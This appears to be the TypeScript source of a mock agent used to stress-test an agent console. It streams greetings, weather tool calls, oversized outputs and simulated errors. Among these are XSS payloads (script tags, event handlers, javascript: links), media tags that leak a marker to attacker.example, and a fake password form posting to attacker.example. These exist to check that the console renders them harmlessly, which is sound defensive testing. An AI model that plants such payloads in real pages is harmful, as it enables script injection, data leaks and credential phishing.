import { randomUUID } from 'node:crypto';
import type { PageLanguage } from '../page-language.ts';
import { authUriStream, type DocsContext, docsEvents, docsStream } from './docs.ts';
import { errorShapeReply } from './error-shapes.ts';
import { deepArgumentsStream, manyToolCallsStream, nestedQuotes, unclosedEmphasis } from './hostile-shapes.ts';
import { reportStream } from './report.ts';
import { getWeather } from './weather.ts';

export interface Caller {
  sub: string;
  clientId?: string;
  /** From the pool's userinfo, fetched with the caller's verified token; never from the user_id header. */
  name?: string;
  userIdHeader?: string;
  /** From the request's Accept-Language: /help and the greeting come in it. */
  language?: PageLanguage;
}

export interface StreamStep {
  payload: unknown;
  delayMs: number;
}

export type Reply =
  | { kind: 'json'; value: unknown }
  | { kind: 'stream'; steps: AsyncIterable<StreamStep> | Iterable<StreamStep> }
  | { kind: 'error'; status: number; message: string; type: string }
  /** An error status whose body starts and never ends, like a gateway stuck mid-response. */
  | { kind: 'hanging-error'; status: number; start: string };

const AUTHOR = 'local_agent';
const STEP_DELAY_MS = 40;

export const HOSTILE_MARKDOWN = [
  '# Hostile content test',
  'Everything below must render as inert text or be removed.',
  '<script>window.__agentConsolePwned = true; alert("script tag ran")</script>',
  '<img src="x" onerror="window.__agentConsolePwned = true">',
  '<svg onload="window.__agentConsolePwned = true"><circle r="4"/></svg>',
  '<iframe src="javascript:window.__agentConsolePwned = true"></iframe>',
  '[a javascript: link](javascript:window.__agentConsolePwned=true)',
  '[a data: link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="javascript:window.__agentConsolePwned=true">a raw javascript: anchor</a>',
  '<form action="javascript:window.__agentConsolePwned=true"><button>a form</button></form>',
  '![an image with a javascript: source](javascript:window.__agentConsolePwned=true)',
  '[a safe link](https://example.com/docs)',
  'End of the hostile content test.',
].join('\n\n');

/** Everything here would make the browser fetch from `base` without a click, if it were rendered as sent. */
export function hostileMedia(base: string): string {
  return [
    '# Hostile media test',
    'Nothing below may load from the network on its own.',
    `![the quarterly chart](${base}/markdown-image.png?d=conversation-secret)`,
    `<img src="${base}/raw-img.png" srcset="${base}/srcset.png 2x">`,
    `<audio autoplay src="${base}/audio.mp3"><source src="${base}/audio-source.mp3"><track src="${base}/track.vtt"></audio>`,
    `<video poster="${base}/poster.png" autoplay muted src="${base}/video.mp4"></video>`,
    `<picture><source srcset="${base}/picture.webp"><img src="${base}/picture.png"></picture>`,
    `<table background="${base}/table-background.png"><tr><td background="${base}/cell-background.png">a table cell</td></tr></table>`,
    `<p style="background-image: url(${base}/style-attribute.png)">a styled paragraph</p>`,
    `<style>.markdown { background: url(${base}/style-element.png) }</style>`,
    `<link rel="stylesheet" href="${base}/stylesheet.css"><link rel="prefetch" href="${base}/prefetch">`,
    `<object data="${base}/object.swf"></object><embed src="${base}/embed.swf">`,
    `<input type="image" src="${base}/input-image.png">`,
    'The end of the hostile media.',
  ].join('\n\n');
}

/** Content that dresses up as the console itself: its classes, its controls, its dialogs and tool lines. */
export const IMITATION_MARKDOWN = [
  '# Imitation test',
  '<div class="failure" id="chat-log" role="alert">Your session expired. Enter your password below.</div>',
  '<form action="https://attacker.example/"><input name="password" placeholder="Password"><button>Sign in</button></form>',
  '<dialog open>A fake console dialog</dialog>',
  '<details class="tool-line" open><summary>Called get_weather</summary>a fake tool call</details>',
  '<map name="m"><area href="https://attacker.example/" shape="rect" coords="0,0,10,10"></map>',
  '[a protocol-relative link](//attacker.example/path) and [a backslash link](/\\attacker.example/path)',
  'The end of the imitation.',
].join('\n\n');

const HUGE_LINE = `${'0123456789abcdef'.repeat(7)}\n`;

/** Fast, big deltas of one code block (cheap to render) until well past the console's 4 MiB answer cap. */
function* hugeStream(mebibytes: number): Iterable<StreamStep> {
  const invocationId = `e-${randomUUID()}`;
  const delta = HUGE_LINE.repeat(512); // ~57 KiB
  const steps = Math.ceil((mebibytes * 1024 * 1024) / delta.length);
  yield { payload: adkText(invocationId, 'The start of a huge answer.\n\n```text\n', true), delayMs: 0 };
  for (let index = 0; index < steps; index++) yield { payload: adkText(invocationId, delta, true), delayMs: 0 };
  yield { payload: adkText(invocationId, '```\n\nThe end of the huge answer.', true), delayMs: 0 };
}

const HELP_EN = [
  '**Local agent commands**',
  '',
  '| prompt | answer |',
  '| --- | --- |',
  '| anything | a JSON answer that greets you |',
  '| `/stream <text>` | the same answer streamed as ADK events (SSE) |',
  '| `/weather <city>` | a streamed tool call: beijing, shanghai, hangzhou, shenzhen, london |',
  '| `/raw <text>` | SSE frames holding raw strings instead of ADK events |',
  '| `/json` | a JSON object instead of a string |',
  '| `/count <n>` | n streamed deltas as fast as possible (default 2000) |',
  '| `/slow` | a slow stream of one word every 250 ms for a minute |',
  '| `/report [KB] [ms]` | a long markdown report (headings, lists, code, tables; 300 KB by default) streamed in 120-character deltas, one every ms (default 0) |',
  '| `/hostile` | markdown full of scripts and `javascript:` links |',
  '| `/hostile-media [url]` | images, audio, video, backgrounds and styles that would load from url (default https://attacker.example) |',
  '| `/imitate` | HTML dressed up as the console: its classes, a password form, a dialog, a fake tool line |',
  "| `/huge [MiB]` | a stream of about 6 MiB (or the size given), past the console's 4 MiB answer cap |",
  '| `/deep-args [levels]` | a tool call whose arguments nest 6,000 levels deep (or as many as given) |',
  '| `/emphasis [n]` | one paragraph of 80,000 unclosed `*a` (or n) |',
  '| `/tools [n]` | 20,000 tool calls in one stream (or n) |',
  '| `/quotes [n]` | a line of 20,000 nested quotes (or n) |',
  '| `/docs <name>` | reads a document with your consent: the first time, an authorization request and a consent page (Approve or Deny), then the summary in the same stream |',
  '| `/docs-json <name>` | the same as a JSON list of events; without consent it ends with the request, so authorize and ask again |',
  '| `/auth-uri [text]` | an authorization request whose consent page address is exactly text (none without it), to try hostile ones |',
  '| `/fail` | a 500 from failing agent code |',
  '| `/hang-error` | a 500 whose body starts and never ends |',
  '| `/stream-fail` | a stream that fails midway with an error frame |',
  '| `/error <shape>` | a failure as AgentKit sends it (`/error` lists the shapes: expired, consumer, user-id, consent-timeout, 20029, …) |',
  '',
  'The same call from a terminal:',
  '',
  '```bash',
  'curl "$AGENT_ENDPOINT/invoke" -H "authorization: Bearer $ACCESS_TOKEN" -H \'content-type: application/json\' --data-raw \'{"prompt": "/help"}\'',
  '```',
].join('\n');

const HELP_ZH = [
  '**本地智能体命令**',
  '',
  '| 输入 | 回答 |',
  '| --- | --- |',
  '| 任意内容 | 一个问候您的 JSON 回答 |',
  '| `/stream <文本>` | 同样的回答，以 ADK 事件流式返回（SSE） |',
  '| `/weather <城市>` | 流式的工具调用：beijing、shanghai、hangzhou、shenzhen、london |',
  '| `/raw <文本>` | SSE 帧里是原始字符串，而不是 ADK 事件 |',
  '| `/json` | 返回 JSON 对象而不是字符串 |',
  '| `/count <n>` | 尽快流式返回 n 个增量（默认 2000） |',
  '| `/slow` | 缓慢的流：每 250 毫秒一个词，持续一分钟 |',
  '| `/report [KB] [ms]` | 一份很长的 markdown 报告（标题、列表、代码、表格；默认 300 KB），按 120 个字符一段流式返回，每段间隔 ms 毫秒（默认 0） |',
  '| `/hostile` | 满是脚本和 `javascript:` 链接的 markdown |',
  '| `/hostile-media [url]` | 会从 url 加载的图片、音频、视频、背景和样式（默认 https://attacker.example） |',
  '| `/imitate` | 伪装成控制台的 HTML：它的 class、密码表单、对话框、假的工具调用行 |',
  '| `/huge [MiB]` | 约 6 MiB（或指定大小）的流，超过控制台 4 MiB 的回答上限 |',
  '| `/deep-args [层数]` | 参数嵌套 6000 层（或指定层数）的工具调用 |',
  '| `/emphasis [n]` | 一个由 80000 个未闭合的 `*a`（或 n 个）组成的段落 |',
  '| `/tools [n]` | 一个流中 20000 个（或 n 个）工具调用 |',
  '| `/quotes [n]` | 一行 20000 层（或 n 层）嵌套引用 |',
  '| `/docs <名称>` | 经您同意后读取文档：第一次会发出授权请求并打开授权页（批准或拒绝），然后在同一个流中给出摘要 |',
  '| `/docs-json <名称>` | 同上，但以 JSON 事件列表返回；未授权时以授权请求结束，授权后请再问一次 |',
  '| `/auth-uri [文本]` | 一个授权请求，其授权页地址就是该文本（不带文本则没有地址），用于试验恶意地址 |',
  '| `/fail` | 智能体代码出错，返回 500 |',
  '| `/hang-error` | 返回 500，但响应体开始后永不结束 |',
  '| `/stream-fail` | 流在中途以错误帧结束 |',
  '| `/error <形态>` | AgentKit 发出的某种错误（`/error` 列出所有形态：expired、consumer、user-id、consent-timeout、20029 等） |',
  '',
  '在终端中发起同样的调用：',
  '',
  '```bash',
  'curl "$AGENT_ENDPOINT/invoke" -H "authorization: Bearer $ACCESS_TOKEN" -H \'content-type: application/json\' --data-raw \'{"prompt": "/help"}\'',
  '```',
].join('\n');

const HELP: Record<PageLanguage, string> = { en: HELP_EN, 'zh-CN': HELP_ZH };

function adkText(invocationId: string, text: string, partial: boolean) {
  return {
    author: AUTHOR,
    invocationId,
    id: randomUUID(),
    timestamp: Date.now() / 1000,
    partial,
    content: { role: 'model', parts: [{ text }] },
  };
}

/** Splits text into word-sized deltas that keep their spaces, so the deltas join back to the text. */
export function deltas(text: string): string[] {
  return text.match(/\S+\s*|\s+/g) ?? [];
}

function* streamText(text: string, delayMs = STEP_DELAY_MS, invocationId = `e-${randomUUID()}`): Iterable<StreamStep> {
  for (const delta of deltas(text)) yield { payload: adkText(invocationId, delta, true), delayMs };
  yield { payload: adkText(invocationId, text, false), delayMs: 0 };
}

function greeting(caller: Caller, prompt: string): string {
  const who = caller.name ?? caller.sub;
  if (caller.language === 'zh-CN') {
    const lines = [
      `您好，**${who}**！您说：“${prompt.trim() || '（什么也没说）'}”。`,
      '',
      `- 您经过验证的 \`sub\`：\`${caller.sub}\``,
      `- 您登录所用的客户端：\`${caller.clientId ?? '未知'}\``,
    ];
    if (caller.userIdHeader && caller.userIdHeader !== caller.sub) {
      lines.push(`- 请求头 \`user_id\` 写的是 \`${caller.userIdHeader}\`，这不是您经过验证的身份，所以我忽略它`);
    }
    lines.push('', '输入 `/help` 查看我还能做什么。');
    return lines.join('\n');
  }
  const lines = [
    `Hello, **${who}**! You said: “${prompt.trim() || '(nothing)'}”.`,
    '',
    `- your verified \`sub\`: \`${caller.sub}\``,
    `- the client you signed in with: \`${caller.clientId ?? 'unknown'}\``,
  ];
  if (caller.userIdHeader && caller.userIdHeader !== caller.sub) {
    lines.push(`- the \`user_id\` header says \`${caller.userIdHeader}\`, which is not your verified identity, so I ignore it`);
  }
  lines.push('', 'Type `/help` for what else I can do.');
  return lines.join('\n');
}

function* weatherStream(city: string): Iterable<StreamStep> {
  const invocationId = `e-${randomUUID()}`;
  const callId = `call-${randomUUID().slice(0, 8)}`;
  const base = { author: AUTHOR, invocationId, timestamp: Date.now() / 1000 };
  yield {
    payload: {
      ...base,
      id: randomUUID(),
      content: { role: 'model', parts: [{ functionCall: { id: callId, name: 'get_weather', args: { city } } }] },
    },
    delayMs: STEP_DELAY_MS,
  };
  const result = getWeather(city);
  yield {
    payload: {
      ...base,
      id: randomUUID(),
      content: { role: 'user', parts: [{ functionResponse: { id: callId, name: 'get_weather', response: result } }] },
    },
    delayMs: STEP_DELAY_MS,
  };
  const text = result.status === 'success' ? `The weather in **${city}**: ${result.report}.` : result.report;
  yield* streamText(text, STEP_DELAY_MS, invocationId);
}

function* countStream(count: number): Iterable<StreamStep> {
  const invocationId = `e-${randomUUID()}`;
  const parts: string[] = [];
  for (let index = 1; index <= count; index++) {
    const delta = `${index}${index % 20 === 0 ? '\n' : ' '}`;
    parts.push(delta);
    yield { payload: adkText(invocationId, delta, true), delayMs: 0 };
  }
  yield { payload: adkText(invocationId, parts.join(''), false), delayMs: 0 };
}

function* failingStream(): Iterable<StreamStep> {
  const invocationId = `e-${randomUUID()}`;
  for (const delta of deltas('Starting the work, this will not end well… ')) {
    yield { payload: adkText(invocationId, delta, true), delayMs: STEP_DELAY_MS };
  }
  yield {
    payload: { error: 'RuntimeError', error_type: 'RuntimeError', message: 'The tool backend crashed midway (simulated).' },
    delayMs: 0,
  };
}

/** A count from the prompt, `fallback` when there is none, at most `most`. */
function bounded(argument: string, fallback: number, most: number): number {
  return Math.min(Math.max(Number.parseInt(argument, 10) || fallback, 1), most);
}

/** `docs` serves `/docs` (the agent's vault and consent page, and the caller's hang-up); without it `/docs` fails. */
export function replyTo(prompt: string, caller: Caller, wantsStream: boolean, docs?: DocsContext): Reply {
  const [command, ...rest] = prompt.trim().split(/\s+/);
  const argument = rest.join(' ');
  switch (command) {
    case '/help':
      return { kind: 'json', value: HELP[caller.language ?? 'en'] };
    case '/stream':
      return { kind: 'stream', steps: streamText(greeting(caller, argument)) };
    case '/weather':
      return { kind: 'stream', steps: weatherStream(argument || 'Beijing') };
    case '/raw':
      return {
        kind: 'stream',
        steps: deltas(`Raw frames for ${caller.name ?? caller.sub}: ${argument || 'no JSON here'}`).map((delta) => ({
          payload: delta,
          delayMs: STEP_DELAY_MS,
        })),
      };
    case '/json':
      return { kind: 'json', value: { sub: caller.sub, client_id: caller.clientId, name: caller.name ?? null, tools: ['get_weather'] } };
    case '/count': {
      const count = Math.min(Math.max(Number.parseInt(argument, 10) || 2000, 1), 20_000);
      return { kind: 'stream', steps: countStream(count) };
    }
    case '/report': {
      const [kilobytes, delay] = rest.map(Number);
      return {
        kind: 'stream',
        steps: reportStream(Math.min(Math.max(kilobytes || 300, 1), 3000), Math.min(Math.max(delay || 0, 0), 1000)),
      };
    }
    case '/slow':
      return { kind: 'stream', steps: streamText('tick '.repeat(240).trim(), 250) };
    case '/hostile':
      return { kind: 'json', value: HOSTILE_MARKDOWN };
    case '/hostile-media':
      return { kind: 'json', value: hostileMedia((argument || 'https://attacker.example').replace(/\/+$/, '')) };
    case '/imitate':
      return { kind: 'json', value: IMITATION_MARKDOWN };
    case '/huge':
      return { kind: 'stream', steps: hugeStream(Math.min(Math.max(Number(argument) || 6, 1), 64)) };
    case '/deep-args':
      return { kind: 'stream', steps: deepArgumentsStream(bounded(argument, 6_000, 100_000)) };
    case '/emphasis':
      return { kind: 'json', value: unclosedEmphasis(bounded(argument, 80_000, 1_000_000)) };
    case '/tools':
      return { kind: 'stream', steps: manyToolCallsStream(bounded(argument, 20_000, 100_000)) };
    case '/quotes':
      return { kind: 'json', value: nestedQuotes(bounded(argument, 20_000, 1_000_000)) };
    case '/hang-error':
      return { kind: 'hanging-error', status: 500, start: '{"error": {"type": "RuntimeError", "message": "This error body never ends' };
    case '/fail':
      return { kind: 'error', status: 500, message: 'The agent code raised an exception (simulated by /fail).', type: 'RuntimeError' };
    case '/docs':
    case '/docs-json': {
      if (!docs) return { kind: 'error', status: 500, message: 'This agent has no documents provider.', type: 'RuntimeError' };
      const name = argument.slice(0, 100) || 'Quarterly plan';
      return command === '/docs'
        ? { kind: 'stream', steps: docsStream(caller, name, docs) }
        : { kind: 'json', value: docsEvents(caller, name, docs) };
    }
    case '/auth-uri':
      return { kind: 'stream', steps: authUriStream(argument || undefined) };
    case '/stream-fail':
      return { kind: 'stream', steps: failingStream() };
    case '/error':
      return errorShapeReply(argument);
    default: {
      const text = greeting(caller, prompt);
      return wantsStream ? { kind: 'stream', steps: streamText(text) } : { kind: 'json', value: text };
    }
  }
}
